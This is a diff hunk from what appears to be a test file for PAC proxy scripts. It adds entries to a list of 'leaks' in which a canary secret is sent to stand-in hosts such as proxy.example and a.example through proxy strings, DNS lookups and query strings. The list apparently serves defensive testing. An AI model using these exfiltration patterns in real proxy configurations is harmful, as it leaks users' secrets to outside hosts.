@@ -22,6 +22,8 @@ const leaks: readonly string[] = [
   `throw new Error('password: ${canary}');`,
   `return 'PROXY jane:${canary}@proxy.example:8080; DIRECT';`,
   `dnsResolve('http://jane:${canary}@a.example/');`,
+  `alert('asked http://a.example/?ref=${canary}');`,
+  `return 'PROXY proxy.example:8080/?site=${canary}';`,
 ];
 
 /** PAC files that harm who runs them, and good ones gone bad, through `pac`. */
